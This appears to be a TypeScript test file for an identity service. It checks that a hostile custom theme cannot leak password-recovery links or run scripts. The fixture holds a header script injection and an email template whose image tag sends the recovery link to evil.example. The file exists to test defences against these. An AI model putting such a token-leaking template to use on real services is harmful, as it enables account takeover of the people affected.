import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { SIGN_IN } from '../../src/identity/identity.ts'
import { FILES } from '../pages/addresses.ts'
import { packageOf } from '../support/packages.ts'
import { browser, mailTo, opened, resident, type Stage, stageOf } from './steps.ts'

const NEXT = 'violet anchor on sand'
const RECOVERY =
  'authentication/login/cloud_directory/password/forgot_password/default/password_recovery_email.xml'

describe('a link that a stranger has asked for, in a theme of their choice', () => {
  let stage: Stage
  let theme: string

  before(async () => {
    stage = await stageOf('SQLite')
    theme = await stage.service.createTheme(
      'Hostile',
      packageOf({
        [FILES.header]: '<script>document.title = "theme"</script>',
        [RECOVERY]:
          '<root><Email id="default"><Subject><Value>Hi</Value></Subject><Message><Value><![CDATA[<img src="https://evil.example/?l=@PASSWORD_RECOVERY_LINK@"><a href="@PASSWORD_RECOVERY_LINK@">Go</a>]]></Value></Message></Email></root>',
      }),
    )
  })
  after(() => stage.stop())

  test('is mailed in the master’s form where the theme would give it away, and runs no script', async () => {
    const { userName } = await resident(stage)
    const stranger = await opened(stage, `&themeId=${theme}`)
    assert.match(stranger.shown!.headers.get('content-security-policy')!, /script-src 'nonce-/)
    await stranger.visit(`${stranger.shown!.forms[0]!.action}&operation=forgot_password`)
    await stranger.submit({ username: userName })
    const mail = await mailTo(stage, userName)
    assert.doesNotMatch(mail.html, /evil\.example/)
    const [link] = /https?:\/\/[^\s"<)]+recover=[\w-]+/.exec(mail.html.replaceAll('&amp;', '&'))!

    const person = browser(stage)
    await person.visit(link)
    assert.match(person.shown!.headers.get('content-security-policy')!, /script-src 'none'/)
    // The address of the page, which scripts of later pages can read in the history, does not suffice.
    const fields = { operation: 'verify', newpassword: NEXT, confirmpassword: NEXT }
    const refused = await person.send('POST', person.shown!.url, fields)
    assert.equal(refused.status, 403)
    await person.submit({ newpassword: NEXT, confirmpassword: NEXT })
    assert.equal(person.shown!.heading, 'All done')
  })

  test('runs no script either where it leads to an error, with the link in its address', async () => {
    const person = browser(stage)
    person.setCookie('tabard-browser', 'one')
    person.setCookie('tabard-browser', 'two', '/idaas')
    const { status, html, headers } = await person.visit(
      `${SIGN_IN}?themeId=${theme}&recover=${'x'.repeat(43)}`,
    )
    assert.equal(status, 400)
    assert.match(headers.get('content-security-policy')!, /script-src 'none'/)
    assert.doesNotMatch(html, /document\.title/)
  })
})
